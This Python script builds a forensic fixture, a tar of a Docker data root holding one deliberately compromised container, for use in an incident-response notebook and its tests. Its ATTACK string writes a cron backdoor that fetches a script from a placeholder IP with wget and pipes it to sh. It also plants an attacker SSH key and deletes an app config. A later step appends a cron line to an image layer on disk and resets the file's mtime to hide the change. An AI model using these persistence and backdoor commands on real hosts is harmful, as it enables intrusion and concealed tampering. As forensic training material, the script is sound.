"""Rebuild ``data/host-tree.tar.gz``: a tiny seized ``/var/lib/docker``, one compromised container.

What it holds (about 10 kB): a private dockerd's data root (overlay2) after

1. ``docker import`` of a minimal rootfs (``/etc/passwd``, ``/etc/crontab``, ``/root``, an
   empty ``/busybox`` placeholder) as ``lf-demo-base:1``;
2. ``docker build`` of ``shop:1`` on top of it (two COPY layers: an app config, then a new
   version of it plus a removed file: a whiteout);
3. ``docker run --name web`` of ``shop:1`` where the "attacker" (busybox bind-mounted from the
   host at ``/busybox``, so that it never enters any layer) writes ``/etc/cron.d/backdoor``,
   deletes ``/opt/app/config`` and drops ``/root/.ssh/authorized_keys``;
4. the daemon is STOPPED, then one image layer is tampered with on disk after the fact
   (``/etc/crontab`` of the base layer gets an extra line: ``verify()`` must name it);
5. the data root (without containerd's, buildkit's and network state) is archived with
   ``tar --xattrs --xattrs-include='trusted.*' --numeric-owner`` and gzip.

Run as root on a machine with docker.io and busybox-static (see shared/docs/engines.md)::

    python data/make_host_tree.py            # writes data/host-tree.tar.gz

The notebook ``notebooks/04-host-incident-response.ipynb`` and ``tests/test_host_tree.py``
read the committed tar; they need no engine.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import sys
import tarfile
import tempfile
import time
from pathlib import Path

HERE = Path(__file__).resolve().parent
OUT = HERE / "host-tree.tar.gz"

ATTACK = (
    "/busybox mkdir -p /etc/cron.d /root/.ssh"
    " && /busybox echo '* * * * * root /busybox wget -qO- http://203.0.113.9/x | /busybox sh'"
    " > /etc/cron.d/backdoor"
    " && /busybox rm /opt/app/config"
    " && /busybox echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJx attacker@203.0.113.9'"
    " > /root/.ssh/authorized_keys"
)


def main() -> int:
    work = Path(tempfile.mkdtemp(prefix="lfht-"))
    try:
        build(work)
    finally:
        shutil.rmtree(work, ignore_errors=True)
    print(f"wrote {OUT} ({OUT.stat().st_size} bytes)")
    return 0


def build(work: Path) -> None:
    """Drive a private dockerd whose data root is ``work/root``; write :data:`OUT`."""
    sock = work / "d.sock"
    env = {
        **os.environ,
        "DOCKER_HOST": f"unix://{sock}",
        "DOCKER_BUILDKIT": "0",
        "DOCKER_CONFIG": str(work / "cli"),
    }
    (work / "cli").mkdir()
    (work / "daemon.json").write_text("{}\n")
    log = open(work / "dockerd.log", "wb")  # noqa: SIM115
    proc = subprocess.Popen(
        [
            "dockerd",
            "--config-file",
            str(work / "daemon.json"),
            "--storage-driver",
            "overlay2",
            "--iptables=false",
            "--ip6tables=false",
            "--bridge=none",
            "--data-root",
            str(work / "root"),
            "--exec-root",
            str(work / "exec"),
            "--pidfile",
            str(work / "dockerd.pid"),
            "--host",
            f"unix://{sock}",
            "--containerd-namespace",
            "lfhosttree",
            "--containerd-plugins-namespace",
            "lfhosttreep",
        ],
        stdout=log,
        stderr=subprocess.STDOUT,
        stdin=subprocess.DEVNULL,
        start_new_session=True,
    )

    def docker(*args: str) -> str:
        return subprocess.run(
            ["docker", *args], env=env, check=True, capture_output=True, text=True
        ).stdout

    try:
        for _ in range(120):
            if subprocess.run(["docker", "info"], env=env, capture_output=True).returncode == 0:
                break
            time.sleep(0.5)
        rootfs = work / "rootfs"
        for sub in ("etc", "root", "opt", "tmp"):
            (rootfs / sub).mkdir(parents=True)
        (rootfs / "etc" / "passwd").write_text("root:x:0:0:root:/root:/busybox\n")
        (rootfs / "etc" / "crontab").write_text("# m h dom mon dow user command\n")
        (rootfs / "busybox").write_bytes(b"")
        with tarfile.open(work / "base.tar", "w") as t:
            t.add(rootfs, arcname=".")
        docker("import", str(work / "base.tar"), "lf-demo-base:1")
        ctx = work / "ctx"
        (ctx / "v1").mkdir(parents=True)
        (ctx / "v2").mkdir()
        (ctx / "v1" / "config").write_text("db=prod\n")
        (ctx / "v1" / "debug.log").write_text("temporary\n")
        (ctx / "v2" / "config").write_text("db=prod\nlisten=8080\n")
        (ctx / "Dockerfile").write_text(
            'FROM lf-demo-base:1\nCOPY v1/ /opt/app/\nCOPY v2/ /opt/app/\nCMD ["/busybox", "sh"]\n'
        )
        docker("build", "--network", "none", "-t", "shop:1", str(ctx))
        docker(
            "run",
            "--network",
            "none",
            "--name",
            "web",
            "-v",
            "/bin/busybox:/busybox:ro",
            "shop:1",
            "/busybox",
            "sh",
            "-c",
            ATTACK,
        )
    finally:
        proc.send_signal(signal.SIGTERM)
        proc.wait(timeout=60)
        log.close()
    root = work / "root"
    # the after-the-fact implant in an image layer (base layer: lf-demo-base)
    image_dir = root / "image" / "overlay2"
    config_id = json.loads((image_dir / "repositories.json").read_text())["Repositories"]["shop"][
        "shop:1"
    ].split(":", 1)[1]
    config = json.loads((image_dir / "imagedb" / "content" / "sha256" / config_id).read_text())
    base_chain = config["rootfs"]["diff_ids"][0].split(":", 1)[1]
    cache = (image_dir / "layerdb" / "sha256" / base_chain / "cache-id").read_text().strip()
    crontab = root / "overlay2" / cache / "diff" / "etc" / "crontab"
    st = crontab.stat()
    with open(crontab, "a") as f:
        f.write("*/5 * * * * root /tmp/.x/kworker\n")
    os.utime(crontab, ns=(st.st_atime_ns, st.st_mtime_ns))  # the implanter hid the mtime too
    subprocess.run(
        [
            "tar",
            "--xattrs",
            "--xattrs-include=trusted.*",
            "--numeric-owner",
            "-czf",
            str(OUT),
            "--exclude=./containerd",
            "--exclude=./buildkit",
            "--exclude=./network",
            "--exclude=./plugins",
            "--exclude=./runtimes",
            "--exclude=./swarm",
            "--exclude=./tmp",
            "--exclude=./trust",
            "--exclude=./image/overlay2/layerdb/tmp",
            "-C",
            str(root),
            ".",
        ],
        check=True,
    )


if __name__ == "__main__":
    sys.exit(main())
